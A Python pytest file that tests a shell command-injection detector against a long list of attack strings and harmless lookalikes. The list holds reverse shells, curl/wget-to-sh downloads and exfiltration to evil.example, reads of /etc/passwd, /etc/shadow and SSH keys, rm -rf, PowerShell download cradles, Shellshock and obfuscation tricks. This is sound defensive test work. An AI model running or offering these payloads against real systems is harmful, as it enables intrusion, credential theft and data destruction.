"""What a detector of commands finds, and what it lets people write."""

import pytest
from everyday import EVERYDAY
from hostile import HOSTILE, attacks, harmless
from hypothesis import given, settings
from hypothesis import strategies as st

from troth.engines.seclang.detect import code, shell

ATTACKS = (
    # in the midst of prose, by what they do
    b"Hello to all of my dear friends; cat /etc/passwd",
    b"many thanks to you | tail -n 3 /proc/self/environ",
    b"we are looking forward to it && rm -rf /srv",
    b"see you soon $(base64 ~/.ssh/id_rsa)",
    b";cat /etc/passwd",
    b"|cat /etc/passwd",
    b"`cat /etc/passwd`",
    b"$(cat /etc/passwd)",
    b"127.0.0.1;ls -la",
    b"127.0.0.1 && whoami",
    b"127.0.0.1|whoami",
    b"test`id`",
    b"test$(id)",
    b"foo;id",
    b"foo|id",
    b"foo&&id",
    b"foo||id",
    b"x';id;'",
    b'x"; id; "',
    b'x") ; id #',
    b"a;sleep 5",
    b"a|sleep 5;",
    b"& ping -n 10 127.0.0.1 &",
    b"| ping -c 5 127.0.0.1",
    b";wget http://evil.example/x.sh -O /tmp/x.sh",
    b";curl evil.example/x|sh",
    b"c'a't /etc/passwd",
    b";c\\at /etc/passwd",
    b";c''at /etc/passwd",
    b';w"h"oami',
    b";w$@hoami",
    b";/???/c?t /etc/passwd",
    b";/bin/c?t /???/p??s??",
    b"{cat,/etc/passwd}",
    b";{ls,-la}",
    b";cat$IFS/etc/passwd",
    b";cat${IFS}/etc/passwd",
    b";cat</etc/passwd",
    b";bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
    b";nc -e /bin/sh 10.0.0.1 4444",
    b";python -c 'import os; os.system(\"id\")'",
    b";perl -e 'print 1'",
    b';echo "hi" > /tmp/x',
    b";rm -rf /",
    b"|| true && rm -rf /tmp/x",
    b";uname -a",
    b";ps aux",
    b";env",
    b";which wget",
    b'() { :; }; /bin/bash -c "id"',
    b"() { :;}; echo vulnerable",
    b"&dir",
    b"& type c:\\windows\\win.ini",
    b"| net user",
    b"&& ipconfig /all",
    b"& whoami /priv",
    b"^w^h^o^a^m^i",
    b"w^h^o^a^m^i",
    b"cmd /c dir",
    b'cmd.exe /c "whoami"',
    b"powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
    b"powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://x/y')\"",
    b"IEX(New-Object Net.WebClient).DownloadString('http://x/y')",
    b";id>/tmp/o",
    b"a=c;b=at;$a$b /etc/passwd",
    b";echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh",
    b";printf '\\x63\\x61\\x74'|sh",
    b"$(echo aWQ=|base64 -d)",
    b";tail -n 5 /var/log/auth.log",
    b"`sleep 5`",
    b"$(sleep 5)",
    b";nslookup x.evil.example",
    b";nslookup $(whoami).evil.example",
    b";curl http://evil.example/?x=`whoami`",
    b";/usr/bin/python3 /tmp/x.py",
    b";sh /tmp/x.sh",
    b"| nc 10.0.0.1 80 < /etc/passwd",
    b"; mail attacker@evil.example < /etc/passwd",
    b"cat /etc/passwd",
    b"cat /etc/shadow",
    b"cat /etc/passwd | mail a@b.c",
    b"ls -la /etc",
    b";ls",
    b";pwd",
    b"||ls",
    b"&ls&",
    b"<(id)",
    b"%0als",
    b"%0Acat%20/etc/passwd",
    b"a\nid",
    b"{php}echo `id`;{/php}",
    b"<%= `id` %>",
    b"#{`id`}",
    b"<?=`id`?>",
)
HARMLESS = (
    b"tail -f access.log | less",
    b"ls -l | grep foo",
    b"You can use `cat file` to see it, or less",
    b"| Name | Cat | Date |\n| --- | --- | --- |\n| a | b | c |",
    b"readme;id;name",
    b"(bt|db|dir|pag)",
    b"<yes|no>",
    b"curl and wget & friends",
    b"Use nc, the netcat",
    b"I ran cat /etc/passwd on my machine and it looks fine to me",
    b"\nHello,\nls is a command\nid is a number\nBye",
)


@pytest.mark.parametrize("value", ATTACKS)
def test_attacks_are_found(value: bytes):
    assert shell.find(value)


@pytest.mark.parametrize("value", [*HARMLESS, *EVERYDAY])
def test_what_people_write_passes(value: bytes):
    assert shell.find(value) is None


@given(
    st.binary(max_size=200)
    | st.sampled_from(ATTACKS).flatmap(
        lambda a: st.binary(max_size=8).map(lambda b: a[:40] + b + a[40:])
    )
)
@settings(max_examples=150, deadline=None)
def test_it_never_raises(value: bytes):
    assert shell.find(value) is None or isinstance(shell.find(value), str)


@pytest.mark.parametrize("unit", HOSTILE)
def test_hostile_values_come_to_an_end(unit: bytes):
    value = unit * (16384 // len(unit))

    assert shell.recognise(value) == shell.recognise(value)


@pytest.mark.shared
@pytest.mark.parametrize("topic", ["cmdexe", "shellshock"])
def test_public_attacks_are_found_and_their_lookalikes_pass(topic: str):
    lines = attacks(topic)

    missed = [line for line in lines if not shell.find(line) and not code.find(line)]

    assert len(missed) <= len(lines) * 0.005
    assert [line for line in harmless(topic) if shell.find(line)] == []
